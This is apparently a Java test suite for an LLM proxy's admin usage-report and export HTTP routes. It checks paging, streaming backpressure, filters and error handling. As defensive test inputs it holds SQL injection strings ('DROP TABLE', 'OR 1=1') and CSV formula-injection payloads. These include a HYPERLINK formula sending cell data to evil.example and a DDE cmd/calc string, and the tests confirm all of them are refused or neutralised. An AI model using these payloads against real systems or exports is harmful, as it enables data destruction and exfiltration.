package dev.portcullis.usage.query;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.portcullis.usage.store.UsageStore;
import io.vertx.core.http.HttpServer;
import io.vertx.core.http.HttpServerOptions;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.Router;
import io.vertx.sqlclient.Tuple;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The usage routes through a real HTTP server, on H2 and on PostgreSQL. */
abstract class UsageRoutesContract extends LedgerTest {

  private static final long BASE_TIME = Instant.parse("2026-12-01T00:00:00Z").toEpochMilli();
  private static final String COST = "0.000008666666";

  private final HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
      .connectTimeout(Duration.ofSeconds(5)).build();
  private HttpServer server;

  @BeforeEach
  void serveRoutes() {
    serve(sql, UsageExport.PAGE_SIZE, UsageReport.MAX_GROUPS);
  }

  @AfterEach
  void stopServing() {
    server.close().await();
  }

  /** (Re)starts the server on the routes over {@code source}. */
  private void serve(UsageSql source, int pageSize, int maxGroups) {
    if (server != null) {
      server.close().await();
    }
    Router router = Router.router(vertx);
    new UsageAdminRoutes(new UsageReport(source, maxGroups), new UsageExport(source, pageSize))
        .mount(router, "/api/admin");
    // A long request line is let through, so that the routes' own bound is what refuses it; small
    // socket buffers, so that a client that does not read is felt after a few pages.
    server = vertx.createHttpServer(new HttpServerOptions().setMaxInitialLineLength(64 * 1024)
            .setSendBufferSize(32 * 1024))
        .requestHandler(router).listen(0, "127.0.0.1").await();
  }

  private HttpResponse<String> get(String target) throws Exception {
    return client.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.actualPort() + target))
        .timeout(Duration.ofSeconds(60)).build(), HttpResponse.BodyHandlers.ofString());
  }

  /** The record {@code i} of the large fixture: three records per second, every fifth by Anthropic, every seventh unpriced. */
  private static Rec numbered(int i) {
    return rec(String.format("rec-%05d", i)).atMs(BASE_TIME + (i / 3) * 1000L)
        .provider(i % 5 == 0 ? "anthropic" : "openai").caller("virtual_key", "vk-" + i % 10)
        .tokens((long) i, 2L * i).cost(i % 7 == 0 ? null : COST).timing(i % 2 == 0, 120.5, i % 2 == 0 ? 35.25 : null);
  }

  private static List<String> ids(int count) {
    return IntStream.range(0, count).mapToObj(i -> String.format("rec-%05d", i)).toList();
  }

  /** The ids {@link #insertNumbered} inserted, in the order it inserted them (backwards). */
  private static List<String> insertedIds(int count) {
    List<String> inserted = new ArrayList<>(ids(count));
    java.util.Collections.reverse(inserted);
    return inserted;
  }

  /** Pages an export of {@code count} numbered records reads: usage_records' (one short), then the batches'. */
  private int exportStatements(int count, int pageSize) {
    int rows = storage() == Storage.RECORDS ? count : 0;
    int batches = 0;
    for (int left = storage() == Storage.RECORDS ? 0 : count; left > 0; left -= BATCH) {
      batches += (Math.min(left, BATCH) + UsageStore.ROW_RECORDS - 1) / UsageStore.ROW_RECORDS;
    }
    return rows / pageSize + 1 + batches / UsageExport.BATCHES_PER_PAGE + 1;
  }

  private void insertNumbered(int count) {
    List<Rec> records = new ArrayList<>(count);
    // Inserted backwards: the export's order must come from its ORDER BY.
    for (int i = count - 1; i >= 0; i--) {
      records.add(numbered(i));
    }
    insert(records);
  }

  // ---- the report ----

  @Test
  void theReportAnswersTheIssuesShape() throws Exception {
    insert(rec("a").tokens(4L, 10L).cost("0.000008"), rec("b").tokens(4L, 10L).cost("0.000009"),
        rec("c").tokens(4L, 20L).cost("0.000009"));
    HttpResponse<String> answer = get("/api/admin/usage?by=model&from=2026-12-01&to=2026-12-03");
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/json");
    assertThat(answer.headers().firstValue("Cache-Control")).hasValue("no-store");
    String fields = "\"calls\":3,\"inputTokens\":12,\"outputTokens\":40,\"cachedInputTokens\":0,"
        + "\"cacheWriteTokens\":0,\"reasoningTokens\":0,\"costUsd\":0.000026,\"unpricedCalls\":0";
    assertThat(answer.body()).isEqualTo(
        "{\"data\":[{\"group\":\"openai:gpt-4o-mini\"," + fields + "}],\"total\":{" + fields + "}}");

    assertThat(get("/api/admin/usage").body()).isEqualTo("{\"total\":{" + fields + "}}");
  }

  @Test
  void tooManyGroupsIsA400() throws Exception {
    serve(sql, UsageExport.PAGE_SIZE, 2);
    insert(rec("a").provider("openai"), rec("b").provider("anthropic"), rec("c").provider("gemini"));
    HttpResponse<String> answer = get("/api/admin/usage?by=provider");
    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(new JsonObject(answer.body()).getJsonObject("error")).isEqualTo(new JsonObject()
        .put("message", "More than 2 groups by provider match; narrow from and to, add a filter or group by something"
            + " coarser").put("field", "by"));
  }

  @Test
  void aModelThatLooksLikeSqlIsOnlyAValue() throws Exception {
    insertNumbered(10);
    HttpResponse<String> answer = get("/api/admin/usage?by=model&model=x%27%3B%20DROP%20TABLE%20usage_records%3B%20--");
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.body()).startsWith("{\"data\":[],\"total\":{\"calls\":0,");
    assertThat(count()).isEqualTo(10);
  }

  // ---- the export ----

  @Test
  void theCsvExportHasEveryRecordInOrder() throws Exception {
    insertNumbered(25_000);
    HttpResponse<String> answer = get("/api/admin/usage/export?format=csv");
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("Content-Type")).hasValue("text/csv; charset=utf-8");
    assertThat(answer.headers().firstValue("Content-Disposition"))
        .hasValue("attachment; filename=\"usage-start-now.csv\"");
    assertThat(answer.headers().firstValue("Transfer-Encoding")).hasValue("chunked");

    List<List<String>> rows = parseCsv(answer.body());
    assertThat(rows.get(0)).containsExactlyElementsOf(UsageExport.FIELDS);
    assertThat(rows).hasSize(25_001);
    assertThat(rows.subList(1, rows.size()).stream().map(row -> row.get(0)).toList())
        .isEqualTo(exportOrder(insertedIds(25_000)));
    assertThat(rows).allSatisfy(row -> assertThat(row).hasSize(UsageExport.FIELDS.size()));
    Map<String, List<String>> byId = new HashMap<>();
    rows.forEach(row -> byId.put(row.get(0), row));
    assertThat(byId.get("rec-00000")).containsExactly("rec-00000", "2026-12-01T00:00:00Z", Long.toString(BASE_TIME), "proxy-1",
        "virtual_key", "vk-0", "anthropic", "chat.completions", "gpt-4o-mini", "", "0", "0", "", "", "", "true", "200",
        "ok", "120.5", "35.25", "", Long.toString(Instant.parse("2027-01-01T00:00:00Z").toEpochMilli()), "", "");
    assertThat(byId.get("rec-12345")).containsExactly("rec-12345", "2026-12-01T01:08:35Z",
        Long.toString(BASE_TIME + 4115_000L), "proxy-1", "virtual_key", "vk-5", "anthropic", "chat.completions",
        "gpt-4o-mini", "", "12345", "24690", "", "", "", "false", "200", "ok", "120.5", "", COST,
        Long.toString(Instant.parse("2027-01-01T00:00:00Z").toEpochMilli()), "", "");
    assertThat(byId.get("rec-24999").subList(0, 3)).containsExactly("rec-24999", "2026-12-01T02:18:53Z",
        Long.toString(BASE_TIME + 8333_000L));

    // usage_records read page by page, each after the last record of the one before (25 full pages
    // and an empty one when they hold the records), then the batches, a few per page.
    int recordPages = storage() == Storage.RECORDS ? 26 : 1;
    assertThat(statements).hasSize(exportStatements(25_000, 1000));
    assertThat(statements.subList(0, recordPages)).allSatisfy(statement -> assertThat(statement).endsWith(
        "ORDER BY time_ms, id LIMIT 1000"));
    assertThat(statements.subList(1, recordPages)).allSatisfy(statement -> assertThat(statement)
        .contains("WHERE time_ms >= ? AND (time_ms > ? OR id > ?) ORDER BY"));
    assertThat(statements.subList(recordPages, statements.size())).allSatisfy(statement -> assertThat(statement)
        .startsWith("SELECT id, recorded_at, body, costs, body_deflated FROM usage_batches WHERE id > ?")
        .endsWith("ORDER BY id LIMIT " + UsageExport.BATCHES_PER_PAGE));
  }

  @Test
  void eachPageQueryStartsItsIndexScanAtTheCursor() throws Exception {
    Assumptions.assumeTrue(storage() == Storage.RECORDS, "pages of usage_records");
    insertNumbered(10_000);
    if (db.postgres()) {
      db.query("ANALYZE usage_records", Tuple.tuple()).await();
    }
    assertThat(get("/api/admin/usage/export?format=csv&from=2026-12-01").statusCode()).isEqualTo(200);
    assertThat(statements).hasSize(exportStatements(10_000, 1000));
    // The sixth page, 5,000 records past from: it must not read them again.
    String plan = plan(statements.get(5), arguments.get(5));
    if (db.postgres()) {
      assertThat(plan).contains("Index Cond: ((time_ms >= ");
      Matcher removed = Pattern.compile("Rows Removed by Filter: (\\d+)").matcher(plan);
      assertThat(removed.find() ? Integer.parseInt(removed.group(1)) : 0).as(plan).isLessThan(10);
    } else {
      Matcher scanned = Pattern.compile("scanCount: (\\d+)").matcher(plan);
      assertThat(scanned.find()).as(plan).isTrue();
      assertThat(Integer.parseInt(scanned.group(1))).as(plan).isLessThan(1_010);
    }
  }

  private String plan(String statement, Tuple values) {
    StringBuilder plan = new StringBuilder();
    for (io.vertx.sqlclient.Row row : db.query("EXPLAIN ANALYZE " + statement, values).await()) {
      plan.append(row.getValue(0)).append('\n');
    }
    return plan.toString();
  }

  @Test
  void theJsonLinesExportHasEveryRecordInOrder() throws Exception {
    insertNumbered(25_000);
    HttpResponse<String> answer = get("/api/admin/usage/export?format=jsonl");
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/x-ndjson");
    assertThat(answer.headers().firstValue("Content-Disposition"))
        .hasValue("attachment; filename=\"usage-start-now.jsonl\"");
    assertThat(answer.body()).endsWith("}\n");

    String[] lines = answer.body().split("\n");
    assertThat(lines).hasSize(25_000);
    assertThat(Arrays.stream(lines).map(line -> new JsonObject(line).getString("id")).toList())
        .isEqualTo(exportOrder(insertedIds(25_000)));
    Map<String, JsonObject> byId = new HashMap<>();
    Arrays.stream(lines).map(JsonObject::new).forEach(line -> byId.put(line.getString("id"), line));
    JsonObject first = byId.get("rec-00000");
    assertThat(first.fieldNames()).containsExactlyElementsOf(UsageExport.FIELDS);
    assertThat(first).isEqualTo(new JsonObject().put("id", "rec-00000").put("time", "2026-12-01T00:00:00Z")
        .put("timeMs", BASE_TIME).put("llmProxyId", "proxy-1").put("callerKind", "virtual_key").put("callerId", "vk-0")
        .put("provider", "anthropic").put("operation", "chat.completions").put("requestedModel", "gpt-4o-mini")
        .put("answeredModel", null).put("inputTokens", 0).put("outputTokens", 0).put("cachedInputTokens", null)
        .put("cacheWriteTokens", null).put("reasoningTokens", null).put("stream", true).put("status", 200)
        .put("outcome", "ok").put("latencyMs", 120.5).put("ttfbMs", 35.25).put("costUsd", null)
        .put("recordedAtMs", Instant.parse("2027-01-01T00:00:00Z").toEpochMilli()).put("limits", null)
        .put("policy", null));
    JsonObject middle = byId.get("rec-12345");
    assertThat(middle.getString("costUsd")).isEqualTo(COST);
    assertThat(middle.getLong("inputTokens")).isEqualTo(12_345L);
    assertThat(middle.getValue("ttfbMs")).isNull();
    assertThat(middle.getBoolean("stream")).isFalse();
    assertThat(byId.get("rec-24999").getString("time")).isEqualTo("2026-12-01T02:18:53Z");
    assertThat(statements).hasSize(exportStatements(25_000, 1000));
  }

  @Test
  void theExportTakesTheFiltersAndNamesItsFileAfterTheTimes() throws Exception {
    insertNumbered(300);
    // Records 3..98 lie in [00:00:01, 00:00:33); every fifth of them is Anthropic's.
    HttpResponse<String> answer = get("/api/admin/usage/export?format=jsonl&provider=anthropic"
        + "&from=2026-12-01T00:00:01Z&to=2026-12-01T00:00:33Z");
    assertThat(answer.headers().firstValue("Content-Disposition"))
        .hasValue("attachment; filename=\"usage-2026-12-01T000001Z-2026-12-01T000033Z.jsonl\"");
    List<String> ids = answer.body().lines().map(line -> new JsonObject(line).getString("id")).toList();
    List<String> expected = IntStream.rangeClosed(1, 19).mapToObj(i -> String.format("rec-%05d", 5 * i)).toList();
    assertThat(ids).isEqualTo(exportOrder(insertedIds(300).stream().filter(expected::contains).toList()));

    answer = get("/api/admin/usage/export?format=csv&from=2027-01-01&to=2027-02-01");
    assertThat(answer.statusCode()).isEqualTo(200);
    assertThat(answer.headers().firstValue("Content-Disposition"))
        .hasValue("attachment; filename=\"usage-2027-01-01-2027-02-01.csv\"");
    assertThat(answer.body()).isEqualTo(String.join(",", UsageExport.FIELDS) + "\r\n");
  }

  @Test
  void theExportSaysWhichLimitRulesActedOnACall() throws Exception {
    insert(rec("refused").outcome("limited").limits("refused:lim_aaaaaaaaaaaaaaaaaaaaaaaa"),
        rec("flagged").at("2026-12-02T09:16:00Z").limits("soft:lim_bbbbbbbbbbbbbbbbbbbbbbbb,lim_cccccccccccccccccccccccc"),
        rec("plain").at("2026-12-02T09:17:00Z"));
    int limits = UsageExport.FIELDS.indexOf("limits");
    assertThat(limits).isEqualTo(UsageExport.FIELDS.size() - 2);
    List<List<String>> rows = parseCsv(get("/api/admin/usage/export?format=csv").body());
    assertThat(rows.subList(1, 4)).extracting(row -> row.get(limits)).containsExactly(
        "refused:lim_aaaaaaaaaaaaaaaaaaaaaaaa", "soft:lim_bbbbbbbbbbbbbbbbbbbbbbbb,lim_cccccccccccccccccccccccc", "");
    assertThat(rows.get(1).get(UsageExport.FIELDS.indexOf("outcome"))).isEqualTo("limited");
    List<JsonObject> lines = get("/api/admin/usage/export?format=jsonl").body().lines().map(JsonObject::new).toList();
    assertThat(lines).extracting(line -> line.getValue("limits")).containsExactly(
        "refused:lim_aaaaaaaaaaaaaaaaaaaaaaaa", "soft:lim_bbbbbbbbbbbbbbbbbbbbbbbb,lim_cccccccccccccccccccccccc", null);
  }

  @Test
  void theExportSaysWhatTheSecurityPoliciesDidToACall() throws Exception {
    insert(rec("redacted").policy("redacted=email:2; logged=phone:1"),
        rec("refused").at("2026-12-02T09:16:00Z").outcome("policy").policy("refused=sensitiveData[0]"),
        rec("plain").at("2026-12-02T09:17:00Z"));
    int policy = UsageExport.FIELDS.indexOf("policy");
    assertThat(policy).as("last, so a reader of the CSV by position is not thrown").isEqualTo(UsageExport.FIELDS.size() - 1);
    List<List<String>> rows = parseCsv(get("/api/admin/usage/export?format=csv").body());
    assertThat(rows.subList(1, 4)).extracting(row -> row.get(policy)).containsExactly(
        "redacted=email:2; logged=phone:1", "refused=sensitiveData[0]", "");
    List<JsonObject> lines = get("/api/admin/usage/export?format=jsonl").body().lines().map(JsonObject::new).toList();
    assertThat(lines).extracting(line -> line.getValue("policy")).containsExactly(
        "redacted=email:2; logged=phone:1", "refused=sensitiveData[0]", null);
  }

  @Test
  void theCsvExportNeutralisesFormulas() throws Exception {
    String hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    insert(rec("f1").models(hyperlink, "+cmd|' /C calc'!A0").outcome("ok"),
        rec("f2").at("2026-12-02T09:16:00Z").models("-2+3", "@SUM(1,2)").proxy("\tproxy"),
        rec("f3").at("2026-12-02T09:17:00Z").models("line\nbreak, \"quoted\"", null));
    String body = get("/api/admin/usage/export?format=csv").body();
    assertThat(body).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,");
    List<List<String>> rows = parseCsv(body);
    int requested = UsageExport.FIELDS.indexOf("requestedModel");
    int answered = UsageExport.FIELDS.indexOf("answeredModel");
    assertThat(rows.get(1).get(requested)).isEqualTo("'" + hyperlink);
    assertThat(rows.get(1).get(answered)).isEqualTo("'+cmd|' /C calc'!A0");
    assertThat(rows.get(2).get(requested)).isEqualTo("'-2+3");
    assertThat(rows.get(2).get(answered)).isEqualTo("'@SUM(1,2)");
    assertThat(rows.get(2).get(UsageExport.FIELDS.indexOf("llmProxyId"))).isEqualTo("'\tproxy");
    assertThat(rows.get(3).get(requested)).isEqualTo("line\nbreak, \"quoted\"");
    // JSON is no spreadsheet: the values as they are.
    String jsonl = get("/api/admin/usage/export?format=jsonl").body();
    assertThat(new JsonObject(jsonl.lines().findFirst().orElseThrow()).getString("requestedModel")).isEqualTo(hyperlink);
  }

  @Test
  void aClientThatDoesNotReadHoldsTheExportBack() throws Exception {
    serve(sql, 500, UsageReport.MAX_GROUPS);
    insertNumbered(25_000);
    try (Socket socket = exportRequest()) {
      // Nothing read: the server writes what the socket buffers and its write queue hold, then waits.
      int whileStalled = quietStatementCount();
      assertThat(whileStalled).isBetween(1, 10);

      byte[] all = socket.getInputStream().readAllBytes();
      List<List<String>> rows = parseCsv(new String(dechunk(all), UTF_8));
      assertThat(rows).hasSize(25_001);
      assertThat(rows.get(25_000).get(0)).isEqualTo(exportOrder(insertedIds(25_000)).get(24_999));
    }
    assertThat(statements).hasSize(exportStatements(25_000, 500));
  }

  @Test
  void aClientThatGoesAwayStopsTheExport() throws Exception {
    serve(sql, 500, UsageReport.MAX_GROUPS);
    insertNumbered(25_000);
    try (Socket socket = exportRequest()) {
      socket.getInputStream().readNBytes(64 * 1024);
    }
    int afterClose = quietStatementCount();
    assertThat(afterClose).isLessThan(20);
    Thread.sleep(500);
    assertThat(statements).hasSize(afterClose);
  }

  @Test
  void anExportThatBreaksOffMidwayBreaksTheConnection() throws Exception {
    AtomicInteger pages = new AtomicInteger();
    serve((statement, arguments) -> pages.incrementAndGet() == 3 ? failing(statement, arguments)
        : db.query(statement, arguments), 100, UsageReport.MAX_GROUPS);
    // The third page is of records, or of stored batches' rows (more than two pages of them).
    insertNumbered(storage() == Storage.RECORDS ? 1_000 : 3 * UsageExport.BATCHES_PER_PAGE * UsageStore.ROW_RECORDS);
    // Two pages were sent, then the connection closes without the chunked answer's end.
    assertThatThrownBy(() -> get("/api/admin/usage/export?format=csv")).isInstanceOf(IOException.class);
  }

  @Test
  void aLedgerOfBothStoragesExportsTheOlderRecordsFirst() throws Exception {
    List<Rec> records = new ArrayList<>();
    for (int i = 0; i < 3 * BATCH; i++) {
      records.add(numbered(i));
    }
    insertRows(records.subList(0, BATCH));
    insertBatches(records.subList(BATCH, 3 * BATCH));
    List<String> exported = get("/api/admin/usage/export?format=jsonl&from=2026-12-01T00:00:00.001Z").body().lines()
        .map(line -> new JsonObject(line).getString("id")).toList();
    // Record 0 lies before from; the rest: usage_records' by time, then the batches' as stored.
    assertThat(exported).isEqualTo(ids(3 * BATCH).subList(3, 3 * BATCH));
  }

  // ---- refusals ----

  @Test
  void badRequestsAreRefusedWithAClearMessageAndNothingRuns() throws Exception {
    insertNumbered(10);
    String usage = "/api/admin/usage";
    String export = "/api/admin/usage/export";
    String[][] cases = {
        {usage + "?virtualKeyId=1'%20OR%20'1'='1", "virtualKeyId",
            "virtualKeyId may hold only letters, digits and . _ : -, not '1' OR '1'='1'"},
        {usage + "?llmProxyId=x%27%3B%20DROP%20TABLE%20usage_records%3B--", "llmProxyId",
            "llmProxyId may hold only letters, digits and . _ : -, not 'x'; DROP TABLE usage_records;--'"},
        {usage + "?provider=openai'--", "provider", "provider may hold only lowercase letters, digits and . _ -,"
            + " not 'openai'--'"},
        {usage + "?from=notadate", "from",
            "from must be an ISO-8601 instant (2026-12-01T00:00:00Z) or date (2026-12-01), not 'notadate'"},
        {usage + "?to=99999-01-01", "to",
            "to must be an ISO-8601 instant (2026-12-01T00:00:00Z) or date (2026-12-01), not '99999-01-01'"},
        {usage + "?to=%2B999999999-12-31T23:59:59Z", "to",
            "to must lie between 1970-01-01 and 9999-12-31, not '+999999999-12-31T23:59:59Z'"},
        {usage + "?from=2026-12-02&to=2026-12-01", "from",
            "from (2026-12-02T00:00:00Z) is after to (2026-12-01T00:00:00Z)"},
        {usage + "?foo=1&bar=2", null, "Unknown query parameters 'bar', 'foo'; expected by, from, llmProxyId, model,"
            + " oauthClientId, provider, to, virtualKeyId"},
        {usage + "?format=csv", "format", "Unknown query parameter 'format'; expected by, from, llmProxyId, model,"
            + " oauthClientId, provider, to, virtualKeyId"},
        {usage + "?by=evil", "by", "by must be one of day, hour, key, model, provider, proxy, not 'evil'"},
        {usage + "?by=model;DROP%20TABLE%20x", "by",
            "by must be one of day, hour, key, model, provider, proxy, not 'model;DROP TABLE x'"},
        {usage + "?by=model&by=day", "by", "Query parameter by is given more than once"},
        {usage + "?model=" + "a".repeat(10 * 1024), null, "The query string is longer than 4096 characters"},
        {usage + "?model=%zz", "model", "Query parameter model has a malformed percent escape or is not UTF-8"},
        {usage + "?model=a%00b", "model", "model may not hold control characters"},
        {usage + "?virtualKeyId=a&oauthClientId=b", "oauthClientId",
            "Give virtualKeyId or oauthClientId, not both: a call has one caller"},
        {export, "format", "format is required: csv or jsonl"},
        {export + "?format=xml", "format", "format must be csv or jsonl, not 'xml'"},
        {export + "?format=csv&format=jsonl", "format", "Query parameter format is given more than once"},
        {export + "?format=csv&by=day", "by", "Unknown query parameter 'by'; expected format, from, llmProxyId, model,"
            + " oauthClientId, provider, to, virtualKeyId"},
        {export + "?format=csv&from=2026-13-01", "from",
            "from must be an ISO-8601 instant (2026-12-01T00:00:00Z) or date (2026-12-01), not '2026-13-01'"},
    };
    for (String[] refused : cases) {
      Raw answer = rawGet(refused[0]);
      assertThat(answer.status()).as(refused[0]).isEqualTo(400);
      assertThat(answer.headers().get("content-type")).as(refused[0]).isEqualTo("application/json");
      assertThat(new JsonObject(answer.body())).as(refused[0]).isEqualTo(new JsonObject()
          .put("error", new JsonObject().put("message", refused[2]).put("field", refused[1])));
    }
    assertThat(statements).isEmpty();
    assertThat(count()).isEqualTo(10);
  }

  @Test
  void aDatabaseFailureIsA503ThatQuotesNoSql() throws Exception {
    serve(LedgerTest::failing, UsageExport.PAGE_SIZE, UsageReport.MAX_GROUPS);
    String unavailable = "{\"error\":{\"message\":\"The usage ledger's database is unavailable; try again later\","
        + "\"field\":null}}";
    for (String target : List.of("/api/admin/usage?by=day", "/api/admin/usage/export?format=csv")) {
      HttpResponse<String> answer = get(target);
      assertThat(answer.statusCode()).as(target).isEqualTo(503);
      assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/json");
      assertThat(answer.headers().firstValue("Content-Disposition")).isEmpty();
      assertThat(answer.body()).isEqualTo(unavailable);
    }
  }

  @Test
  void aClosedDatabaseIsA503() throws Exception {
    db.close().await();
    for (String target : List.of("/api/admin/usage", "/api/admin/usage/export?format=jsonl")) {
      HttpResponse<String> answer = get(target);
      assertThat(answer.statusCode()).as(target).isEqualTo(503);
      assertThat(answer.body()).contains("The usage ledger's database is unavailable");
    }
  }

  // ---- helpers ----

  /** Sends an export request on a socket with a small receive buffer, and reads nothing. */
  private Socket exportRequest() throws IOException {
    Socket socket = new Socket();
    socket.setReceiveBufferSize(16 * 1024);
    socket.connect(new InetSocketAddress("127.0.0.1", server.actualPort()), 5_000);
    socket.setSoTimeout(60_000);
    socket.getOutputStream().write(("GET /api/admin/usage/export?format=csv HTTP/1.1\r\nHost: localhost\r\n"
        + "Connection: close\r\n\r\n").getBytes(ISO_8859_1));
    socket.getOutputStream().flush();
    return socket;
  }

  /** How many statements had run once none has run for a second. */
  private int quietStatementCount() throws InterruptedException {
    int seen = -1;
    long quietSince = System.nanoTime();
    long deadline = System.nanoTime() + Duration.ofSeconds(30).toNanos();
    while (System.nanoTime() < deadline) {
      int now = statements.size();
      if (now != seen) {
        seen = now;
        quietSince = System.nanoTime();
      } else if (now > 0 && System.nanoTime() - quietSince > Duration.ofSeconds(1).toNanos()) {
        return now;
      }
      Thread.sleep(50);
    }
    throw new AssertionError("statements kept running: " + seen);
  }

  private record Raw(int status, Map<String, String> headers, String body) {}

  /** A GET with the target sent as it is (java.net.http would refuse a malformed escape before sending it). */
  private Raw rawGet(String target) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", server.actualPort())) {
      socket.setSoTimeout(10_000);
      socket.getOutputStream().write(("GET " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
          .getBytes(ISO_8859_1));
      String text = new String(socket.getInputStream().readAllBytes(), UTF_8);
      int headEnd = text.indexOf("\r\n\r\n");
      String[] head = text.substring(0, headEnd).split("\r\n");
      Map<String, String> headers = new HashMap<>();
      for (int i = 1; i < head.length; i++) {
        int colon = head[i].indexOf(':');
        headers.put(head[i].substring(0, colon).trim().toLowerCase(), head[i].substring(colon + 1).trim());
      }
      return new Raw(Integer.parseInt(head[0].split(" ")[1]), headers, text.substring(headEnd + 4));
    }
  }

  /** The body of a whole HTTP/1.1 answer with chunked transfer encoding. */
  private static byte[] dechunk(byte[] answer) throws IOException {
    String head = new String(answer, 0, Math.min(answer.length, 2048), ISO_8859_1);
    int at = head.indexOf("\r\n\r\n") + 4;
    assertThat(head.toLowerCase()).contains("transfer-encoding: chunked");
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    while (true) {
      int lineEnd = indexOf(answer, at);
      int size = Integer.parseInt(new String(answer, at, lineEnd - at, ISO_8859_1).trim(), 16);
      at = lineEnd + 2;
      if (size == 0) {
        return body.toByteArray();
      }
      body.write(answer, at, size);
      at += size + 2;
    }
  }

  private static int indexOf(byte[] bytes, int from) {
    for (int i = from; i + 1 < bytes.length; i++) {
      if (bytes[i] == '\r' && bytes[i + 1] == '\n') {
        return i;
      }
    }
    throw new AssertionError("no line end after " + from);
  }

  /** RFC 4180: quoted fields may hold separators, doubled quotes and line breaks; records end with CRLF. */
  static List<List<String>> parseCsv(String text) {
    assertThat(text).endsWith("\r\n");
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder field = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
          field.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          field.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',') {
        row.add(field.toString());
        field.setLength(0);
      } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
        row.add(field.toString());
        field.setLength(0);
        rows.add(row);
        row = new ArrayList<>();
        i++;
      } else {
        field.append(c);
      }
    }
    return rows;
  }
}
